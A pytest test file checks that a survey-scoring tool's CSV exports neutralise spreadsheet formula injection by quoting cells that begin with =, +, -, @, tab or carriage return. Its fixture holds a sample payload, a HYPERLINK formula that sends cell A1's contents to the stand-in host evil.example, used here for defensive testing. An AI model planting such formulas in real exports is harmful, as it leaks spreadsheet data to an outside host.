"""CSV files we write are safe to open in a spreadsheet (issue 9, item 2): a text cell that
Excel would run as a formula gets a leading ``'`` (OWASP's advice); numbers stay numbers."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from click.testing import CliRunner

from assessment.cells import csv_text, spreadsheet_cell
from generator.cli import cli
from generator.site import generate, prepare

from .conftest import WriteProject

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        (HYPERLINK, "'" + HYPERLINK),
        ("+1+2", "'+1+2"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Support", "Support"),
        ("a=b", "a=b"),
        ("", ""),
        (-12.5, -12.5),  # a number stays a number, sign and all
        (3, 3),
        (None, None),
        (True, True),
    ],
)
def test_text_that_a_spreadsheet_would_run_gets_a_quote(value: object, cell: object) -> None:
    assert spreadsheet_cell(value) == cell


def test_csv_text_writes_guarded_cells() -> None:
    assert csv_text([["group", "delta"], ["=1+1", -3.5]]) == "group,delta\n'=1+1,-3.5\n"


SHEET = """\
team: '{team}'
role: '{role}'
answers:
  alpha.one: {one}
  alpha.two: partly
  beta.three: [chat]
"""


@pytest.fixture
def hostile(write_project: WriteProject, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """Three people in a team named as a formula, with roles that are formulas too."""
    sheets = {
        f"answers/{n}.yml": SHEET.format(
            team=HYPERLINK.replace("'", "''"), role="@SUM(A1:A9)", one=n
        )
        for n in (1, 2, 5)
    }
    monkeypatch.chdir(tmp_path)
    return write_project(sheets)


def _groups(text: str) -> set[str]:
    return {row["group"] for row in csv.DictReader(io.StringIO(text))}


def test_score_csv_guards_team_and_role_names(hostile: Path) -> None:
    for by in ("team", "role"):
        result = CliRunner().invoke(cli, ["score", "proj", "--format", "csv", "--by", by])
        assert result.exit_code == 0, result.output
        name = "'" + HYPERLINK if by == "team" else "'@SUM(A1:A9)"
        assert _groups(result.stdout) == {name}
        assert "\n" + HYPERLINK[:4] not in result.stdout and ",=" not in result.stdout


def test_the_sites_scores_csv_guards_them_too(hostile: Path) -> None:
    assessment, results, plan = prepare("proj")
    text = generate(assessment, results, plan, {})["docs/downloads/scores.csv"].decode("utf-8")
    assert _groups(text) == {"All respondents", "'" + HYPERLINK, "'@SUM(A1:A9)"}
    overall = next(csv.DictReader(io.StringIO(text)))
    # alpha.one 1, 2, 5 score 0, 25, 100 (mean 41.67, weight 2), alpha.two partly 50:
    # alpha (2 x 41.67 + 50) / 3 = 400/9; beta.three [chat] 1 of 4: 25; overall
    # (400/9 + 2 x 25) / 3 = 850/27 = 31.48, written as the number it is
    assert float(overall["score"]) == pytest.approx(850 / 27)
